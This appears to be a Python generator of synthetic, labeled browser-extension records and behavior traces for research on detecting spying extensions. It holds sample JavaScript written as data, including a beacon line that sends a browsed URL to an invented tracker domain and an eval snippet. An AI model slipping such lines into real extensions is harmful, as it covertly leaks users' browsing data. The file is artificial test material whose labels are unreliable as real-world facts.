"""Deterministic generator of labeled synthetic extensions and behavior traces.

Archetypes mirror observed spying behaviors: immediate leakers, cookie-toggle
and timer-triggered leakers, and store-then-send batchers, plus three benign
flavors including a hard negative (benign_functional) that accesses user data
and legitimately transmits it to a first-party domain.  Spy traces always
emit an access before a third-party transmit whose payload embeds an accessed
value under the sampled obfuscation, so the leak verifier reproduces the
generator's labels exactly.

Class signal lives in the *temporal coupling* of access and transmit calls:
spies transmit within a few calls of an access (or in periodic bursts),
benign_functional keeps a wide gap.  Hand-crafted features (permissions,
call counts, metadata, reputation) are drawn from closely matched
distributions across classes on purpose.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field, replace

import numpy as np

from .corpus import (
    ApiCallEvent,
    BehaviorTrace,
    ExtensionRecord,
    Label,
    NetworkEvent,
    StorageEvent,
)
from .errors import InvalidSpec, UnknownId
from .leaks import verify
from .signatures import SignatureSet

SPY_ARCHETYPES = ("spy_immediate", "spy_cnc_cookie", "spy_time_trigger", "spy_store_then_send")
BENIGN_ARCHETYPES = ("benign_no_network", "benign_access_only", "benign_functional")
ARCHETYPES = SPY_ARCHETYPES + BENIGN_ARCHETYPES

WORKLOAD_SITES = (
    "google.com", "youtube.com", "facebook.com", "baidu.com", "wikipedia.org",
    "yahoo.com", "amazon.com", "twitter.com", "live.com", "linkedin.com",
)

TRACKER_DOMAINS = (
    "wips.com", "upalytics.com", "analyticssgoogle.com", "fairsharelabs.com",
    "statcollect.net", "clickfeed.io", "sessionmetrics.org", "trkpoint.com",
)

CDN_DOMAINS = ("jsdelivr.net", "cdnjs.org", "unpkg.org")

ACCESS_CALLS = ("tabs.query", "tabs.get", "cookies.get", "cookies.getAll",
                "history.search", "bookmarks.get", "storage.get")
STORE_CALLS = ("cookies.set", "storage.set", "bookmarks.create")
TRANSMIT_CALL = "webRequest.send"
XHR_CALLS = ("xhr.open", "xhr.send")

# Access-call profiles.  Spies lean on exactly one of {history.search,
# bookmarks.get} (history thieves vs bookmark thieves); benign extensions use
# both (sync/backup tools) or neither (page-level helpers).  Either way the
# marginal call presence overlaps heavily across classes.
_SPY_POOL_HIST = (("history.search", 0.35), ("cookies.getAll", 0.15), ("cookies.get", 0.10),
                  ("tabs.query", 0.20), ("tabs.get", 0.10), ("storage.get", 0.10))
_SPY_POOL_BKM = (("bookmarks.get", 0.35), ("cookies.getAll", 0.15), ("cookies.get", 0.10),
                 ("tabs.query", 0.20), ("tabs.get", 0.10), ("storage.get", 0.10))
_BENIGN_POOL_BOTH = (("history.search", 0.30), ("bookmarks.get", 0.30), ("tabs.query", 0.20),
                     ("tabs.get", 0.10), ("storage.get", 0.05), ("cookies.get", 0.05))
_BENIGN_POOL_NEITHER = (("tabs.query", 0.40), ("tabs.get", 0.25),
                        ("storage.get", 0.20), ("cookies.get", 0.15))

NOISE_CALLS = (
    "runtime.connect", "runtime.sendMessage", "runtime.onMessage",
    "i18n.getMessage", "browserAction.setIcon", "browserAction.setBadgeText",
    "contextMenus.create", "notifications.create", "alarms.create",
    "windows.getAll", "idle.queryState", "extension.getURL",
    "permissions.contains", "commands.getAll", "pageAction.show",
    "downloads.search", "tts.speak", "webNavigation.getFrame",
    "omnibox.setDefaultSuggestion", "management.getAll",
    "fontSettings.getFont", "sessions.getRecentlyClosed",
    "topSites.get", "identity.getProfileUserInfo",
)

# manifest permission implied by each privileged endpoint an extension touches
ENDPOINT_PERMISSION = {
    "tabs": "tabs", "cookies": "cookies", "history": "history",
    "storage": "storage", "bookmarks": "bookmarks", "webRequest": "webRequest",
    "alarms": "alarms", "notifications": "notifications",
    "contextMenus": "contextMenus", "idle": "idle", "downloads": "downloads",
    "tts": "tts", "webNavigation": "webNavigation", "management": "management",
    "sessions": "sessions", "topSites": "topSites", "identity": "identity",
    "fontSettings": "fontSettings",
}

CATEGORIES = ("Productivity", "Fun", "Communication", "Web Development",
              "Accessibility", "Search Tools", "Shopping", "News",
              "Blogging", "Photos", "Sports")

OBFUSCATIONS = ("identity", "base64", "base64x2", "hex")


@dataclass(frozen=True)
class GenSpec:
    seed: int = 0
    counts: dict = field(default_factory=lambda: {
        "spy_immediate": 83, "spy_cnc_cookie": 52, "spy_time_trigger": 20,
        "spy_store_then_send": 52,
        "benign_no_network": 1242, "benign_access_only": 931, "benign_functional": 932,
    })
    runs_per_extension: int = 3
    mean_length: int = 215
    min_length: int = 40
    workload_sites: tuple[str, ...] = WORKLOAD_SITES
    obfuscation_mix: dict = field(default_factory=lambda: {
        "identity": 0.35, "base64": 0.35, "base64x2": 0.15, "hex": 0.15,
    })
    xhr_only_fraction: float = 0.03  # spies whose only transmit is xhr.send

    def validate(self) -> None:
        for name, count in self.counts.items():
            if name not in ARCHETYPES:
                raise InvalidSpec(f"unknown archetype {name!r}")
            if count < 0:
                raise InvalidSpec(f"negative count for {name}")
        if self.runs_per_extension < 1:
            raise InvalidSpec("runs_per_extension must be >= 1")
        if abs(sum(self.obfuscation_mix.values()) - 1.0) > 1e-9:
            raise InvalidSpec("obfuscation mix must sum to 1")
        if set(self.obfuscation_mix) - set(OBFUSCATIONS):
            raise InvalidSpec("unknown obfuscation")


@dataclass(frozen=True)
class GeneratedExtension:
    record: ExtensionRecord
    traces: tuple[BehaviorTrace, ...]
    label: Label
    archetype: str


def _encode_payload(value: str, obfuscation: str) -> str:
    if obfuscation == "identity":
        return value
    if obfuscation == "base64":
        return base64.b64encode(value.encode()).decode()
    if obfuscation == "base64x2":
        once = base64.b64encode(value.encode()).decode()
        return base64.b64encode(once.encode()).decode()
    if obfuscation == "hex":
        return value.encode().hex()
    raise InvalidSpec(f"unknown obfuscation {obfuscation!r}")


def _zipf_probs(n: int, s: float = 1.1) -> np.ndarray:
    ranks = np.arange(1, n + 1, dtype=np.float64)
    p = 1.0 / ranks**s
    return p / p.sum()


_NOISE_P = _zipf_probs(len(NOISE_CALLS))


def _length(rng: np.random.Generator, spec: GenSpec) -> int:
    span = max(1, spec.mean_length - spec.min_length + 1)
    return min(spec.min_length + int(rng.geometric(1.0 / span)) - 1, 2000)


# ---------------------------------------------------------------------------
# Slot plans: each run is a list of (role, detail) slots, noise by default.
# Roles: noise / access / store(url?) / toggle / leak / functional_tx / xhr_noise
# ---------------------------------------------------------------------------

def _spy_plan(rng: np.random.Generator, archetype: str, length: int) -> list[tuple[str, str]]:
    plan: list[tuple[str, str]] = [("noise", "")] * length
    plan[0] = ("access", "")

    if archetype == "spy_cnc_cookie":
        start = int(length * rng.uniform(0.05, 0.15))
        plan[max(1, start)] = ("toggle", "")
        leak_from = max(2, start + 1)
    elif archetype == "spy_time_trigger":
        plan[min(2, length - 1)] = ("timer", "")
        leak_from = int(length * rng.uniform(0.08, 0.18))
    else:
        leak_from = 1

    if archetype == "spy_store_then_send":
        pos = leak_from
        while pos < length - 4:
            plan[pos] = ("access", "")
            if pos + 1 < length:
                plan[pos + 1] = ("store", "url")
            pos += int(rng.integers(6, 14))
        burst = max(leak_from + 2, int(length * 0.12))
        while burst < length:
            for j in range(int(rng.integers(2, 4))):
                if burst + j < length:
                    plan[burst + j] = ("leak", "stored")
            burst += int(rng.integers(40, 70))
    else:
        pos = max(1, leak_from)
        while pos < length - 4:
            gap = int(rng.integers(0, 3))
            plan[pos] = ("access", "")
            leak_at = pos + 1 + gap
            if leak_at < length:
                plan[leak_at] = ("leak", "")
            pos += int(rng.integers(18, 34))
    return plan


def _benign_plan(rng: np.random.Generator, archetype: str, length: int) -> list[tuple[str, str]]:
    plan: list[tuple[str, str]] = [("noise", "")] * length
    plan[0] = ("access", "")
    if archetype == "benign_no_network":
        for pos in range(8, length, int(rng.integers(30, 60))):
            plan[pos] = ("store", "plain")
        return plan

    access_positions = list(range(3, length, int(rng.integers(9, 15))))
    for pos in access_positions:
        plan[pos] = ("access", "")
        if rng.random() < 0.5 and pos + 1 < length:
            plan[pos + 1] = ("store", "url" if rng.random() < 0.5 else "plain")

    if archetype == "benign_functional":
        # transmits stay >= 8 slots away from any access: batched, decoupled sends
        taken = set(access_positions)
        pos = int(rng.integers(4, 10))
        while pos < length:
            if all(abs(pos - a) >= 8 for a in taken) and plan[pos][0] == "noise":
                plan[pos] = ("functional_tx", "")
                pos += int(rng.integers(25, 40))
            else:
                pos += 1
    return plan


# ---------------------------------------------------------------------------
# Trace assembly
# ---------------------------------------------------------------------------

def _path_token(rng: np.random.Generator) -> str:
    return "".join(rng.choice(list("abcdefghijklmnopqrstuvwxyz0123456789"), size=10))


def _build_trace(
    rng: np.random.Generator,
    ext_id: str,
    run_id: int,
    archetype: str,
    spec: GenSpec,
    tracker: str,
    home_site: str,
    obfuscation: str,
    xhr_only: bool,
) -> BehaviorTrace:
    length = _length(rng, spec)
    spy = archetype in SPY_ARCHETYPES
    plan = _spy_plan(rng, archetype, length) if spy else _benign_plan(rng, archetype, length)
    sites = list(rng.choice(spec.workload_sites, size=4, replace=False))

    events: list[ApiCallEvent] = []
    network: list[NetworkEvent] = []
    storage: list[StorageEvent] = []
    accessed: list[tuple[int, str]] = []
    t = 0
    last_value: str | None = None
    stored_values: list[str] = []
    has_network = archetype not in ("benign_no_network", "benign_access_only")

    if has_network:
        # resource fetches from CDNs; every networked extension touches jsdelivr
        t += int(rng.integers(5, 30))
        for dom in (CDN_DOMAINS[0],) + ((rng.choice(CDN_DOMAINS[1:]),) if rng.random() < 0.7 else ()):
            network.append(NetworkEvent(
                t=t, method="GET",
                url=f"https://{dom}/lib/{_path_token(rng)}/core.min.js",
            ))
            t += int(rng.integers(3, 12))

    def emit(call: str, kind: str = "chrome_api") -> None:
        nonlocal t
        t += int(rng.integers(5, 60))
        events.append(ApiCallEvent(t=t, kind=kind, call=call))

    def do_access() -> None:
        nonlocal last_value
        emit(str(rng.choice(ACCESS_CALLS)))
        site = sites[int(rng.integers(0, len(sites)))]
        value = f"https://{site}/{_path_token(rng)}?q={_path_token(rng)}"
        accessed.append((t, value))
        last_value = value

    def do_transmit(dest: str, value: str | None, functional: bool) -> None:
        nonlocal t
        if xhr_only and spy:
            emit("xhr.open", kind="web_api")
            emit("xhr.send", kind="web_api")
        else:
            emit(TRANSMIT_CALL)
        if value is None:
            return
        payload = _encode_payload(value, "identity" if functional and rng.random() < 0.5 else obfuscation)
        style = rng.random()
        if style < 0.45:
            network.append(NetworkEvent(
                t=t, method="POST", url=f"https://api.{dest}/v1/collect", body=payload))
        elif style < 0.9:
            network.append(NetworkEvent(
                t=t, method="GET", url=f"https://api.{dest}/v1/collect",
                query=(("d", payload), ("s", str(run_id)))))
        else:
            from urllib.parse import quote
            network.append(NetworkEvent(
                t=t, method="GET",
                url=f"https://api.{dest}/t/{quote(value, safe='')}"))

    for role, detail in plan:
        if role == "noise":
            emit(str(rng.choice(NOISE_CALLS, p=_NOISE_P)))
        elif role == "access":
            do_access()
        elif role == "store":
            call = str(rng.choice(STORE_CALLS[:2]))
            emit(call)
            store = "cookie" if call == "cookies.set" else "localStorage"
            if detail == "url" and last_value is not None:
                new_value = last_value
                stored_values.append(last_value)
            else:
                new_value = _path_token(rng)
            storage.append(StorageEvent(t=t, store=store, key=f"k{len(storage)}",
                                        old_value=None, new_value=new_value))
        elif role == "toggle":
            emit("cookies.set")
            storage.append(StorageEvent(t=t, store="cookie", key="track_on",
                                        old_value="0", new_value="1"))
        elif role == "timer":
            emit("alarms.create")
        elif role == "leak":
            if detail == "stored" and stored_values:
                value = stored_values[int(rng.integers(0, len(stored_values)))]
            else:
                if last_value is None:
                    do_access()
                value = last_value
            do_transmit(tracker, value, functional=False)
        elif role == "functional_tx":
            do_transmit(home_site, last_value, functional=True)

    return BehaviorTrace(
        ext_id=ext_id, run_id=run_id,
        events=tuple(events), network=tuple(network),
        storage=tuple(storage), accessed_values=tuple(accessed),
    )


# ---------------------------------------------------------------------------
# Records
# ---------------------------------------------------------------------------

COMMON_FILES = ("manifest.json", "background.js", "content.js", "popup.html",
                "popup.js", "options.html", "main.js", "util.js",
                "lib/jquery.min.js", "icons/icon128.png")
SPY_EXTRA_FILES = ("tracker.js", "trk_core.js", "user_stats.js", "click_log.js", "stats.js")
BENIGN_EXTRA_FILES = ("stats.js", "user_prefs.js", "clicker.js")

GENERIC_SNIPPETS = (
    "chrome.runtime.onMessage.addListener(function(m, s, cb) { cb({ok: true}); });",
    "document.addEventListener('DOMContentLoaded', init);",
    "var cfg = JSON.parse(localStorage.getItem('cfg') || '{}');",
    "chrome.browserAction.setBadgeText({text: String(count)});",
)
EVAL_SNIPPET = "var fn = eval('(' + body + ')'); fn(payload);"
B64_SNIPPET = "var key = 'QmFzZTY0S2V5TWF0ZXJpYWxGb3JDb25maWc='; store(key);"

SPY_SNIPPET_TEMPLATE = "function sync(u) {{ var img = new Image(); img.src = 'https://api.{dom}/v1/collect?d=' + enc(u); }}"

SPY_DEVELOPERS = ("wips", "topapps", "swytshop", "upalytics", "trackwise",
                  "oeurstudio", "statware", "clickmint", "adigo", "pixelsmith",
                  "datanest", "brightlab")
BENIGN_DEVELOPERS = tuple(f"dev{idx:03d}" for idx in range(220))

SUSPICIOUS_REPORTS = (
    "pretty sure this extension is tracking everything i visit",
    "found weird requests going out, possible spyware, don't install",
    "this thing steals your history",
)
GENERIC_REPORTS = (
    "love it, works great", "stopped working after the last update",
    "could you add dark mode?", "five stars",
)


def _make_record(
    rng: np.random.Generator,
    ext_id: str,
    archetype: str,
    traces: tuple[BehaviorTrace, ...],
    tracker: str,
) -> ExtensionRecord:
    spy = archetype in SPY_ARCHETYPES

    endpoints = {e.call.split(".")[0] for tr in traces for e in tr.events if e.kind == "chrome_api"}
    required = {ENDPOINT_PERMISSION[ep] for ep in endpoints if ep in ENDPOINT_PERMISSION}
    extras = set()
    for perm, prob in (("tabs", 0.92), ("cookies", 0.82), ("storage", 0.55),
                       ("background", 0.5), ("webRequest", 0.68), ("activeTab", 0.12),
                       ("unlimitedStorage", 0.07), ("history", 0.1),
                       ("geolocation", 0.02), ("contextMenus", 0.15)):
        if rng.random() < prob:
            extras.add(perm)
    permissions = frozenset(required | extras)

    filenames = list(COMMON_FILES[:int(rng.integers(5, len(COMMON_FILES) + 1))])
    if spy and rng.random() < 0.25:
        filenames.append(str(rng.choice(SPY_EXTRA_FILES)))
    elif not spy and rng.random() < 0.08:
        filenames.append(str(rng.choice(BENIGN_EXTRA_FILES)))

    urls = [f"https://github.com/{_path_token(rng)}/ext"]
    snippets = list(rng.choice(GENERIC_SNIPPETS, size=2, replace=False))
    if spy:
        urls.append(f"https://api.{tracker}/v1/collect")
        snippets.append(SPY_SNIPPET_TEMPLATE.format(dom=tracker))
    else:
        urls.append(f"https://{rng.choice(CDN_DOMAINS)}/lib/core.min.js")
    if rng.random() < 0.25:
        snippets.append(EVAL_SNIPPET)
    if rng.random() < (0.3 if spy else 0.2):
        snippets.append(B64_SNIPPET)

    reports: list[str] = []
    if rng.random() < 0.45:
        reports.append(str(rng.choice(GENERIC_REPORTS)))
    if spy and rng.random() < 0.06:
        reports.append(str(rng.choice(SUSPICIOUS_REPORTS)))

    developer = (str(rng.choice(SPY_DEVELOPERS)) if spy and rng.random() < 0.65
                 else str(rng.choice(BENIGN_DEVELOPERS)))

    users = int(np.exp(rng.uniform(np.log(50), np.log(2_000_000))))
    rating = float(np.clip(rng.normal(4.3, 0.4), 2.5, 5.0))
    num_ratings = int(max(0, rng.poisson(max(1, users // 400))))

    return ExtensionRecord(
        ext_id=ext_id,
        developer=developer,
        category=str(rng.choice(CATEGORIES)),
        claimed_description=f"{archetype.replace('_', ' ')} style extension for daily browsing",
        users=users,
        rating=round(rating, 2),
        num_ratings=num_ratings,
        permissions=permissions,
        filenames=tuple(filenames),
        source_urls=tuple(urls),
        source_snippets=tuple(snippets),
        reports=tuple(reports),
    )


# ---------------------------------------------------------------------------
# Public API
# ---------------------------------------------------------------------------

def iter_generate(spec: GenSpec):
    """Yield GeneratedExtension objects deterministically from the spec seed.

    Each extension draws its own generator from (seed, index), so generation
    could be partitioned across workers without changing the output.
    """
    spec.validate()
    idx = 0
    for archetype in ARCHETYPES:
        for _ in range(int(spec.counts.get(archetype, 0))):
            rng = np.random.default_rng([spec.seed, idx])
            ext_id = "".join(rng.choice(list("abcdefghijklmnop"), size=16))
            tracker = str(rng.choice(TRACKER_DOMAINS))
            home_site = str(rng.choice(spec.workload_sites))
            obf_names = sorted(spec.obfuscation_mix)
            obf_p = np.array([spec.obfuscation_mix[o] for o in obf_names])
            obfuscation = str(rng.choice(obf_names, p=obf_p))
            xhr_only = (archetype in SPY_ARCHETYPES
                        and rng.random() < spec.xhr_only_fraction)
            traces = tuple(
                _build_trace(rng, ext_id, run, archetype, spec, tracker,
                             home_site, obfuscation, xhr_only)
                for run in range(spec.runs_per_extension)
            )
            record = _make_record(rng, ext_id, archetype, traces, tracker)
            cls = "spying" if archetype in SPY_ARCHETYPES else "benign"
            yield GeneratedExtension(
                record=record,
                traces=traces,
                label=Label(ext_id=ext_id, cls=cls, provenance=f"synth:{archetype}"),
                archetype=archetype,
            )
            idx += 1


def generate(spec: GenSpec) -> list[GeneratedExtension]:
    """Materialize the whole corpus (see iter_generate for streaming)."""
    return list(iter_generate(spec))


def rule_oracle(trace: BehaviorTrace, workload_sites: tuple[str, ...] = WORKLOAD_SITES) -> str:
    """Ground-truth cross-check: spying iff the leak verifier finds a third-party leak."""
    verdict = verify(trace, frozenset(workload_sites))
    return "spying" if verdict.spying else "benign"


def plant_signatures(
    extensions: list[GeneratedExtension],
    sigs: SignatureSet,
    target_ids: list[str],
) -> list[GeneratedExtension]:
    """Inject one matching filename/developer/url/snippet into each target record.

    Filename globs are taken literally (extract_signatures stores exact
    basenames), rotating through each signature list so every target gets a
    concrete match of every available kind.
    """
    known = {ext.record.ext_id for ext in extensions}
    missing = set(target_ids) - known
    if missing:
        raise UnknownId(f"unknown target ids: {sorted(missing)[:3]}")
    targets = set(target_ids)
    globs = sorted(sigs.filename_globs)
    devs = sorted(sigs.developer_ids)
    urls = sorted(sigs.tracker_urls)
    snippets = sorted(sigs.js_snippets)
    out = []
    i = 0
    for ext in extensions:
        if ext.record.ext_id not in targets:
            out.append(ext)
            continue
        rec = ext.record
        changes = {}
        if globs:
            changes["filenames"] = rec.filenames + (globs[i % len(globs)],)
        if devs:
            changes["developer"] = devs[i % len(devs)]
        if urls:
            changes["source_urls"] = rec.source_urls + (f"https://{urls[i % len(urls)]}/sync.js",)
        if snippets:
            changes["source_snippets"] = rec.source_snippets + (snippets[i % len(snippets)],)
        out.append(replace(ext, record=replace(rec, **changes)))
        i += 1
    return out
